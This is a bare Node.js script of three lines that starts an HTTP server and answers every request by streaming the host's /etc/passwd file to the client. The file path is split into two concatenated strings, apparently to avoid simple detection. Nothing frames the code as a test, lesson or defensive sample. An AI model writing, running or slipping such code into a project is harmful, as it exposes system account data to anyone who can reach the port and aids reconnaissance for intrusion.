const http = require('http');
const fs = require('fs');
http.createServer((req, res) => { fs.createReadStream('/etc/' + 'passwd').pipe(res); }).listen(process.env.PORT || 3000);
